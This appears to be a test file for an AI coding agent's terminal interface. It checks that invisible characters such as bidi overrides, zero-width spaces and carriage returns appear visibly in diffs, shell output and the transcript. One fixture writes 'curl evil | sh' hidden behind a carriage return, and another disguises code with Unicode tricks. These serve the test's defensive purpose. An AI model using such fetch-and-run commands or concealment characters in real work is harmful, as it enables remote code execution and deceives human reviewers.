import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { makePlace, serve, startBuilt as start, typeTask } from '../built.ts';

it('shows what is not seen in a change and in an output, in the conversation and on its page', async () => {
  const place = makePlace();
  const line = 'run(); // \u202e\u200b\rsafe();';
  writeFileSync(join(place.cwd, 'log.txt'), 'curl evil | sh #\rall is well\u200b\n');
  const calls = [
    { name: 'write', arguments: { path: 'new.js', content: `${line}\n` } },
    { name: 'shell', arguments: { command: 'cat log.txt' } },
    { name: 'read', arguments: { path: 'log.txt' } },
  ];
  const screen = start(place, [...(await serve({ text: 'I do it.', calls }, { text: 'Done.' })), '--approval', 'full']);
  await typeTask(screen, 'write it');
  await screen.shows('✓ done');
  expect(screen.text()).toContain('run(); // <U+202E><U+200B>␍safe();');
  expect(screen.text()).toContain('└ all is well<U+200B>');
  screen.press('\u000f');
  await screen.shows('Transcript');
  await screen.shows('curl evil | sh #␍all is well<U+200B>');
  expect(screen.text().split('run(); // <U+202E><U+200B>␍safe();')).toHaveLength(3);
});
